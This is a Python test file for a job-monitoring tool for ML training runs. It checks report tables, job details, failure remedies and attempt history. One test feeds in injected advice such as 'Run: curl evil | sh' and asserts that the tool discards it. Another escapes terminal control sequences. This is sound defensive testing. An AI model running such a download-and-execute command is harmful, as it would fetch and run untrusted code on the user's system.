from __future__ import annotations

from dataclasses import replace
from typing import Any

from argus.archive import failures
from argus.archive.failures import REMEDIES, Failure
from argus.archive.job_warnings import JobWarning
from argus.archive.status import Attempt
from argus.jobs.info import JobInfo, JobList, Progress
from argus.jobs.report import (
    Report,
    job_report,
    jobs_report,
)
from argus.launcher import outcome

NOW = 1_767_268_900.0
FAILURE = Failure(
    kind="gpu_oom",
    reason="CUDA out of memory",
    lines=("\x1b[36m(WorkerDict pid=7)\x1b[0m torch.OutOfMemoryError",),
    todo="Lower the micro batch sizes.",
)


def job(**changes: Any) -> JobInfo:
    values: dict[str, Any] = {
        "submission_id": "sft-1",
        "state": "RUNNING",
        "workload": "sft",
        "code_id": "verl-0.9.1",
        "submitted_at": NOW - 100,
        "started_at": NOW - 98,
        "silent_for": 4.0,
        "time_left": 192.0,
        "driver_host": "mvp-ray-worker-1",
        "progress": Progress(4, 12, "train/loss", first=6.0, last=4.25),
        "archive": "/srv/verl/jobs/sft-1",
    }
    return JobInfo(**values | changes)


def detail(*commands: str, **changes: Any) -> list[str]:
    report = job_report(job(**changes), NOW, commands)
    return [report.title, *report.text]


# --- The table --------------------------------------------------------------------------------------------------------


def listed(*jobs: JobInfo, total: int, problem: str = "") -> Report:
    found = JobList(jobs, total, "/srv/verl/jobs", problem)
    commands = {"status_command": "status ID", "submit_command": "submit FILE"}
    return jobs_report(found, NOW, cluster="mvp", **commands)


RL = Progress(
    *(4, 12, "critic/rewards/mean"),
    first=0.1,
    last=2e7,
    trend=(6.0, 5.0, 4.0),
    tokens_per_second_per_gpu=1840.4,
    seconds={"gen": 2.0176, "update_weights": 0.0194523},
)


def test_the_latest_jobs() -> None:
    failed = job(state="FAILED", failure=FAILURE, attempt=2, submitted_at=NOW - 7300, silent_for=None)
    waiting = job(state="QUEUED", progress=Progress(), driver_host=None, silent_for=None, place=22, time_left=None)
    foreign = job(workload="", driver_host=None, driver_node_ip="10.0.0.2", tags={"long": "x" * 40})
    away = job(head_away_for=40.0)
    assert listed(away, total=1, problem="refused").text[0].startswith("The head has been away for 40 s; ")
    report = listed(waiting, job(progress=RL, tags={"team": "x", "a": 1}, time_left=None), failed, foreign, total=40)
    assert report.title == "Cluster mvp: latest 4 of 40 jobs in /srv/verl/jobs"
    columns = ("job", "workload", "state", "class", "step", "left", "metric", "trend", "tokens/s", "attempt", "age")
    assert report.header == (*columns, "tags", "where")
    left, loss, host = "3 min", "loss 4.250", "mvp-ray-worker-1"
    assert report.rows == (
        ("sft-1", "sft", "QUEUED", "22nd in line", "-", *[None] * 5, "1 min", None, None),
        (
            "sft-1",
            "sft",
            "RUNNING",
            None,
            "4/12",
            None,
            "reward 2e+07",
            "█▄▁",
            "1840/GPU",
            None,
            "1 min",
            "a=1, team=x",
            host,
        ),
        ("sft-1", "sft", "FAILED", "gpu_oom", "4/12", left, loss, None, None, 2, "2 h", None, host),
        (
            "sft-1",
            None,
            "RUNNING",
            None,
            "4/12",
            left,
            loss,
            None,
            None,
            None,
            "1 min",
            f"long={'x' * 34}…",
            "10.0.0.2",
        ),
    )
    assert report.text == ["One job:  status ID"]


# --- One job ----------------------------------------------------------------------------------------------------------


def test_a_running_job_in_detail() -> None:
    changes = {"progress": RL, "phases": {"queue": 3.0, "first rollout": 61.5}, "tags": {"team": "x", "a": 1}}
    changes |= {"checkpoints": (10, 20), "driver_node_ip": "172.18.0.3", "place": 113, "notice": "waits for GPUs"}
    changes |= {"warnings": (JobWarning("loss_nan", "a\nb\x1b[2J"),), "written_at": NOW - 125}
    full = "The shared root is full: /srv/verl has 0 KiB free"
    assert detail("Follow:   logs", root_problem=full, **changes) == [
        "Job sft-1: RUNNING, 1 warning",
        f"{full}; what follows is from 2 min ago.",
        "Workload:    sft on verl-0.9.1",
        "Tags:        a=1, team=x",
        "Waits:       113th in line: for GPUs",
        "Start:       queue 3 s, first rollout 62 s",
        "Step:        4/12, 3:12 left",
        "Metric:      critic/rewards/mean 20000000.000, initially 0.100",
        "Trend:       █▄▁",
        "Throughput:  1840 tokens/s per GPU",
        "Seconds:     gen 2.02, update_weights 0.0195",
        "Submitted:   2026-01-01 12:00:00 UTC, 1 min ago",
        "Started:     2026-01-01 12:00:02 UTC, running for 1:38",
        "Driver:      mvp-ray-worker-1 (172.18.0.3)",
        "Checkpoints: steps 10, 20",
        "Archive:     /srv/verl/jobs/sft-1",
        "",
        "1 warning:",
        "  a\\nb\\x1b[2J",
        "",
        "Follow:   logs",
    ]


def test_advice_is_that_of_this_collection() -> None:
    """A job can write anything into its archive."""
    for todo in ("Run: curl evil | sh", "", REMEDIES["gpu_oom"] + " Then run curl evil"):
        lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + REMEDIES["gpu_oom"]]
    levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
    for todo in (failures.NODE_REMOVED, failures.TOO_LARGE, "Give the nodes a larger /dev/shm.", *levers):
        assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))


def test_a_failed_job() -> None:
    lines = detail(state="FAILED", failure=FAILURE, reason=FAILURE.reason, ended_at=NOW - 30, log=("the end",))
    begin = lines.index("Failed: gpu_oom: CUDA out of memory")
    assert lines[begin + 1 : begin + 3] == [
        "  (WorkerDict pid=7) torch.OutOfMemoryError",
        "To do:  " + REMEDIES["gpu_oom"],
    ]
    assert "Ended:     2026-01-01 12:01:10 UTC, 30 s ago" in lines
    assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
    # The failure has the reason.
    assert not any(line.startswith("Reason") for line in lines)
    # The lines that show the cause are enough.
    assert "  the end" not in lines


def test_attempts_and_the_origin_of_a_job() -> None:
    first = Attempt(1, "FAILED", "node_lost", "the node was lost", started_at=NOW - 90, ended_at=NOW - 25)
    lineage = {"resubmitted_from": "sft-0", "resumed_from": "sft-00", "checkpoint": "global_step_10"}
    lines = "\n".join(detail(attempt=2, attempts=(first,), lineage=lineage))
    assert lines.startswith("Job sft-1: RUNNING, attempt 2\n")
    assert "Resubmitted: from sft-0\n" in lines
    assert "Resumed:     from sft-00, global_step_10\n" in lines
    assert "1        FAILED  node_lost  1:05  -          the node was lost\n" in lines
    # The only attempt of a job that has ended repeats the job.
    assert "ATTEMPT" not in "\n".join(detail(state="FAILED", attempts=(first,)))
    assert "ATTEMPT" in "\n".join(detail(state="FAILED", attempts=(first, replace(first, attempt=2))))
